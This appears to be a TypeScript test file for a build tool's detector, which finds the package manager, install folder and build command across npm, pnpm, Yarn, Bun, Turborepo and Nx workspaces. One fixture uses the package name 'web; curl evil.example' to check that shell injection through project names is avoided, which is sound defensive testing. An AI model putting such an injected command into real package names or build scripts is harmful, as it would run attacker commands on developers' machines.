// builder/frameworks/detect.ts in repositories of several projects: which package manager installs, where, and what
// builds the project of a folder.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detect } from '#builder/frameworks/detect.ts';
import { filesOf } from '#test/setup/project-files.ts';
import { manifest } from './starters/starter.ts';

interface Repository {
  readonly files: Readonly<Record<string, string>>;
  /** The project's folder. */
  readonly folder: string;
  /** Name, version and lockfile. */
  readonly manager: readonly [string, string | null, string | null];
  readonly install: string;
  readonly build: string | null;
}

const vue = (more: Record<string, string> = {}, named = 'web') =>
  manifest({ vue: '^3.5.45', vite: '^8.3.8', ...more }, { build: 'vite build' }, { name: named });
const root = (more: object, packages: Record<string, string> = {}): string => manifest(packages, {}, { ...more });

const repositories: Readonly<Record<string, Repository>> = {
  'npm workspaces': {
    files: {
      'package.json': root({ workspaces: ['apps/*'] }),
      'package-lock.json': '{}',
      'apps/web/package.json': vue(),
    },
    folder: 'apps/web',
    manager: ['npm', null, 'package-lock.json'],
    install: '.',
    build: 'npm run build',
  },
  'a workspace of pnpm': {
    files: {
      'package.json': root({ packageManager: 'pnpm@10.4.1+sha512.c0ffee' }),
      'pnpm-workspace.yaml': 'packages: [apps/*]\n',
      'pnpm-lock.yaml': '',
      'apps/web/package.json': vue({ '@acme/ui': 'workspace:*' }),
    },
    folder: 'apps/web',
    manager: ['pnpm', '10.4.1', 'pnpm-lock.yaml'],
    install: '.',
    build: 'pnpm build',
  },
  'a workspace of pnpm without a package.json at its root': {
    files: { 'pnpm-workspace.yaml': 'packages: [apps/*]\n', 'pnpm-lock.yaml': '', 'apps/web/package.json': vue() },
    folder: 'apps/web',
    manager: ['pnpm', null, 'pnpm-lock.yaml'],
    install: 'apps/web',
    build: 'pnpm build',
  },
  'workspaces of Yarn 1': {
    files: {
      'package.json': root({ workspaces: { packages: ['apps/*'] } }),
      'yarn.lock': '# yarn lockfile v1\n',
      'apps/web/package.json': vue(),
    },
    folder: 'apps/web',
    manager: ['yarn', null, 'yarn.lock'],
    install: '.',
    build: 'yarn build',
  },
  'workspaces of Yarn 4': {
    files: {
      'package.json': root({ workspaces: ['apps/*'], packageManager: 'yarn@4.9.1' }),
      '.yarnrc.yml': 'nodeLinker: node-modules\n',
      'yarn.lock': '__metadata:\n  version: 8\n',
      'apps/web/package.json': vue(),
    },
    folder: 'apps/web',
    manager: ['yarn', '4.9.1', 'yarn.lock'],
    install: '.',
    build: 'yarn build',
  },
  'workspaces of Bun': {
    files: { 'package.json': root({ workspaces: ['apps/*'] }), 'bun.lock': '', 'apps/web/package.json': vue() },
    folder: 'apps/web',
    manager: ['bun', null, 'bun.lock'],
    install: '.',
    build: 'bun run build',
  },
  'Turborepo, whose project uses a package of the repository': {
    files: {
      'package.json': root({ packageManager: 'pnpm@10.4.1' }, { turbo: '^2.11.11' }),
      'pnpm-workspace.yaml': '',
      'pnpm-lock.yaml': '',
      'turbo.json': '{ "tasks": { "build": { "dependsOn": ["^build"] } } }',
      'apps/web/package.json': vue({ '@acme/ui': 'workspace:*' }, '@acme/web'),
    },
    folder: 'apps/web',
    manager: ['pnpm', '10.4.1', 'pnpm-lock.yaml'],
    install: '.',
    build: 'turbo run build --filter=@acme/web^... && pnpm build',
  },
  'Turborepo, whose project uses none': {
    files: {
      'package.json': root({ workspaces: ['apps/*'] }, { turbo: '^2.11.11' }),
      'package-lock.json': '{}',
      'turbo.json': '{}',
      'apps/web/package.json': vue(),
    },
    folder: 'apps/web',
    manager: ['npm', null, 'package-lock.json'],
    install: '.',
    build: 'npm run build',
  },
  'Turborepo, with a name that a shell would read': {
    files: {
      'package.json': root({ workspaces: ['apps/*'] }, { turbo: '^2.11.11' }),
      'package-lock.json': '{}',
      'turbo.json': '{}',
      'apps/web/package.json': vue({ '@acme/ui': '*' }, 'web; curl evil.example'),
    },
    folder: 'apps/web',
    manager: ['npm', null, 'package-lock.json'],
    install: '.',
    build: 'npm run build',
  },
  'Nx, whose project uses a package of the repository': {
    files: {
      'package.json': root({ workspaces: ['apps/*'] }, { nx: '^24.0.6' }),
      'package-lock.json': '{}',
      'nx.json': '{}',
      'apps/web/package.json': vue({ '@acme/ui': '*' }),
    },
    folder: 'apps/web',
    manager: ['npm', null, 'package-lock.json'],
    install: '.',
    build: 'nx build web --skip-nx-cache',
  },
  'a worker of a workspace': {
    files: {
      'package.json': root({ workspaces: ['apps/*'] }),
      'bun.lockb': '',
      'apps/api/package.json': manifest({ hono: '^4.13.19' }, { build: 'tsc' }),
      'apps/api/src/index.ts': 'export default app;',
    },
    folder: 'apps/api',
    manager: ['bun', null, 'bun.lockb'],
    install: '.',
    build: null,
  },
  'a folder of a repository that is no workspace': {
    files: { 'package.json': root({}), 'package-lock.json': '{}', 'site/package.json': vue(), 'site/yarn.lock': '' },
    folder: 'site',
    manager: ['yarn', null, 'yarn.lock'],
    install: 'site',
    build: 'yarn build',
  },
};

for (const [name, { files, folder, manager, install, build }] of Object.entries(repositories))
  test(`${name}: what installs, where, and what builds`, () => {
    const found = detect(filesOf(files), folder);
    assert.deepEqual([found.manager.name, found.manager.version, found.manager.lockfile], manager);
    assert.deepEqual([found.installFolder, found.build, found.problems], [install, build, []]);
  });

for (const [name, more, version] of [
  ['packageManager', { packageManager: 'pnpm@9.1.0' }, '9.1.0'],
  ['devEngines', { devEngines: { packageManager: { name: 'pnpm', version: '9.1.0', onFail: 'error' } } }, '9.1.0'],
  ['devEngines with a range', { devEngines: { packageManager: { name: 'pnpm', version: '^9.0.0' } } }, null],
] as const)
  test(`${name} of package.json goes before a lockfile`, () => {
    const { manager } = detect(filesOf({ 'package.json': root(more), 'package-lock.json': '{}' }));
    assert.deepEqual(manager, { name: 'pnpm', version, lockfile: null, because: 'package.json names it' });
  });

test('a project of Nx with its packages at the root says what platform.yaml to write there', () => {
  const { problems } = detect(
    filesOf({
      'package.json': root({}, { nx: '^24.0.6', vite: '^8.3.8', react: '^19.0.0' }),
      'nx.json': '{}',
      'apps/shop/project.json': '{ "name": "shop" }',
      'apps/shop/vite.config.ts': `export default { build: { outDir: '../../dist/apps/shop' } };`,
      'apps/shop/index.html': '<script type="module" src="/src/main.tsx"></script>',
    }),
    'apps/shop',
  );
  assert.equal(
    problems[0],
    'This project of Nx has no package.json: its packages and its output lie at the root of the repository. Have a platform.yaml there with "kind: static", "build: nx build shop" and "out: dist/apps/shop"; or give it a package.json with a script "build"',
  );
});
